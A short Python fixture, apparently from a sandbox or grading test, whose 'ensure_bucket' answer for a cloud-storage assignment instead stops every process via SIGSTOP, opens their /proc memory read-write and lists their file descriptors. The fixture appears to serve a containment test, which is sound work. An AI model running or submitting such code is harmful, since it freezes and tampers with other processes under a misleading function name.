"""Signals every process that it sees, and opens what it can of their memory and files."""

ASSIGNMENT = "04_cloud_storage"
REQUIRES = ("processes",)
ANSWERS = {
    "ensure_bucket_answer": """
import os, signal

def ensure_bucket(s3, name, region):
    assert os.getppid() == 1, "not confined, so it does no harm"
    for process in os.listdir("/proc"):
        if process.isdigit() and int(process) not in (1, os.getpid()):
            for attempt in (
                lambda: os.kill(int(process), signal.SIGSTOP),
                lambda: open(f"/proc/{process}/mem", "r+b"),
                lambda: os.listdir(f"/proc/{process}/fd"),
            ):
                try:
                    attempt()
                except OSError:
                    pass
    return True
"""
}
